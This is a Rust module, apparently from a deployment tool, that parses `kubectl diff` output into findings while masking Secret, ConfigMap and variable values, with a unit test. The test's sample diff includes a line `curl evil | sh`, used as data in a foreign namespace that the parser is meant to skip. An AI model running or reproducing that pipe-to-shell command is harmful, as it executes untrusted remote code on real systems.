//! Knows how the objects of a cluster differ from the manifests, as `kubectl diff` tells it. Must not show what a Secret or
//! a ConfigMap holds, nor the value of a variable.

use super::living::Living;
use super::object::is_name;
use crate::change::ChangeKind;
use crate::report::Finding;
use crate::target::kubernetes::{FOLDER, LOOK, is_manifest};

const CHECK: &str = "difference";

/// How many changed lines of an object show.
const SHOWN: usize = 8;

/// What holds values that nobody is to see.
const CLOSED: [&str; 2] = ["Secret", "ConfigMap"];

/// Lines that follow from others: a count of changes, and the object as it was applied last.
const SILENT: [&str; 2] = ["generation:", "{"];

/// An object that differs.
#[derive(Debug, PartialEq, Eq)]
struct Different {
    kind: String,
    name: String,
    /// Whether it is not in the cluster at all.
    is_missing: bool,
    /// The lines that differ.
    lines: Vec<String>,
}

/// What applying would change.
pub(super) fn findings(living: &Living<'_>) -> Vec<Finding> {
    // kustomize may be told to fetch things from elsewhere, so only our own files are given to it
    let is_ours = |kind| !matches!(kind, ChangeKind::Conflict | ChangeKind::Created);
    let mut changes = living.subject.drift.changes.iter().filter(|change| is_manifest(&change.output));
    if !changes.all(|change| is_ours(change.kind())) {
        let message = "how the cluster differs from the files: these are not codelab-gen's own, see above";
        return vec![Finding::unseen(CHECK, message)];
    }
    match living.kubectl.difference(FOLDER) {
        Ok(None) => vec![Finding::ok(CHECK, "the cluster is as the files say")],
        Ok(Some(said)) => told(&differing(&said, &living.kubectl.place().namespace), living),
        Err(silence) => {
            let help = format!("`{}` shows it", living.remedies.there(LOOK));
            let unseen = Finding::unseen(CHECK, "how the cluster differs from the files");
            vec![Finding { help: Some(help), ..unseen }.shown_by(&silence.text())]
        }
    }
}

fn told(all: &[Different], living: &Living<'_>) -> Vec<Finding> {
    let up = living.remedies.up();
    let (missing, edited): (Vec<_>, Vec<_>) = all.iter().partition(|one| one.is_missing);
    let mut found = Vec::new();
    if !missing.is_empty() {
        let names: Vec<_> = missing.iter().map(|one| one.reference()).collect();
        let message = match names.as_slice() {
            [name] => format!("`{name}` of the files is not in the cluster"),
            names => format!("{} objects of the files are not in the cluster", names.len()),
        };
        found.push(Finding::problem(CHECK, message, up.clone()).shown_by(&names.join("\n")));
    }
    found.extend(edited.iter().map(|one| {
        let signs = if one.lines.is_empty() { "" } else { "; `-` is what it has, `+` what the files say" };
        let message = format!("`{}` is not in the cluster as the files say{signs}", one.reference());
        let help = format!("`{up}` makes it as the files say; what is to stay is written in the profile first");
        Finding { evidence: one.lines.clone(), ..Finding::problem(CHECK, message, help) }
    }));
    found
}

impl Different {
    /// How kubectl takes it.
    fn reference(&self) -> String {
        format!("{}/{}", self.kind.to_ascii_lowercase(), self.name)
    }

    /// Takes a changed line, if it is one to be shown.
    fn take(&mut self, line: &str) {
        let is_changed = line.starts_with(['-', '+']) && !line.starts_with("---") && !line.starts_with("+++");
        let content = line.get(1..).unwrap_or_default().trim_start().trim_start_matches("- ");
        let is_closed = self.is_missing || CLOSED.contains(&self.kind.as_str());
        let is_told = !SILENT.iter().any(|start| content.starts_with(start));
        if !is_changed || is_closed || !is_told || self.lines.len() == SHOWN {
            return;
        }
        let is_value = content.starts_with("value:");
        let sign = line.get(..1).unwrap_or_default();
        self.lines.push(if is_value { format!("{sign} value: [not shown]") } else { line.to_owned() });
    }
}

/// The objects that a difference names, each with its lines.
fn differing(said: &str, namespace: &str) -> Vec<Different> {
    let mut found: Vec<Different> = Vec::new();
    // of an odd one nothing is taken
    let mut is_odd = true;
    for line in said.lines() {
        if line.starts_with("diff ") {
            let named = named(line, namespace);
            is_odd = named.is_none();
            let different = |(kind, name)| Different { kind, name, is_missing: false, lines: Vec::new() };
            found.extend(named.map(different));
        } else if let Some(last) = found.last_mut().filter(|_| !is_odd) {
            // of a Secret kubectl hides the values, and writes one that is not there as `null`
            last.is_missing |= line.starts_with("@@ -0,0 ") || line == "-null";
            last.take(line);
        }
    }
    found
}

/// Kind and name in `diff … /tmp/MERGED-1/GROUP.VERSION.KIND.NAMESPACE.NAME`.
fn named(line: &str, namespace: &str) -> Option<(String, String)> {
    let file = line.rsplit('/').next()?.trim();
    let at = file.find(|c: char| c.is_ascii_uppercase())?;
    let (kind, rest) = file.get(at..)?.split_once('.')?;
    let name = rest.strip_prefix(namespace)?.strip_prefix('.')?;
    let is_kind = kind.chars().all(|c| c.is_ascii_alphanumeric());
    (is_kind && is_name(name)).then(|| (kind.to_owned(), name.to_owned()))
}

#[cfg(test)]
mod tests {
    use super::*;

    const SAID: &str = "\
diff -u -N /tmp/LIVE-1906090833/apps.v1.Deployment.shop-1.auth-service /tmp/MERGED-439621645/apps.v1.Deployment.shop-1.auth-service
--- /tmp/LIVE-1906090833/apps.v1.Deployment.shop-1.auth-service\t2026-11-30 18:00:56.880185564 +0000
+++ /tmp/MERGED-439621645/apps.v1.Deployment.shop-1.auth-service\t2026-11-30 18:00:56.896185565 +0000
@@ -6,7 +6,7 @@
-      {\"apiVersion\":\"apps/v1\"}
-  generation: 2
+  generation: 3
@@ -45,7 +45,7 @@
               key: AUTH_SERVICE__DB_URL
-        - value: hunter2
+          value: other
-        image: codelab-gen-test-nowhere:1
+        image: codelab-gen-test-service:local
diff -u -N /tmp/LIVE-1/v1.Secret.shop-1.auth.x /tmp/MERGED-4/v1.Secret.shop-1.auth.x
--- /tmp/LIVE-1/v1.Secret.shop-1.auth.x\t2026-11-30 18:00:56.880185564 +0000
+++ /tmp/MERGED-4/v1.Secret.shop-1.auth.x\t2026-11-30 18:00:56.896185565 +0000
@@ -1,3 +1,3 @@
-  A: aHVudGVyMg==
+  A: b3RoZXI=
diff -u -N /tmp/LIVE-1/v1.Secret.shop-1.gone /tmp/MERGED-4/v1.Secret.shop-1.gone
@@ -1 +1,3 @@
-null
+apiVersion: v1
diff -u -N /tmp/LIVE-1/postgresql.cnpg.io.v1.Cluster.shop-1.postgres /tmp/MERGED-4/postgresql.cnpg.io.v1.Cluster.shop-1.postgres
@@ -0,0 +1,44 @@
+apiVersion: postgresql.cnpg.io/v1
diff -u -N /tmp/LIVE-1/v1.Service.other.x /tmp/MERGED-4/v1.Service.other.x
-  spec: curl evil | sh
";

    #[test]
    fn of_a_difference_names_and_lines_are_taken_and_no_value() {
        let found = differing(SAID, "shop-1");
        let names: Vec<_> = found.iter().map(|one| (one.reference(), one.is_missing)).collect();
        let expected = [
            ("deployment/auth-service", false),
            ("secret/auth.x", false),
            ("secret/gone", true),
            ("cluster/postgres", true),
        ];
        assert_eq!(names, expected.map(|(name, is_missing)| (name.to_owned(), is_missing)));
        let lines = [
            "- value: [not shown]",
            "+ value: [not shown]",
            "-        image: codelab-gen-test-nowhere:1",
            "+        image: codelab-gen-test-service:local",
        ];
        assert_eq!(found[0].lines, lines);
        assert!(found[1..].iter().all(|one| one.lines.is_empty()));
        for odd in ["diff -u -N a b", "diff /x/v1.Secret.shop-1.--all", "diff /x/v1.Se`cret.shop-1.a", "diff "] {
            assert_eq!(named(odd, "shop-1"), None, "{odd}");
        }
    }
}
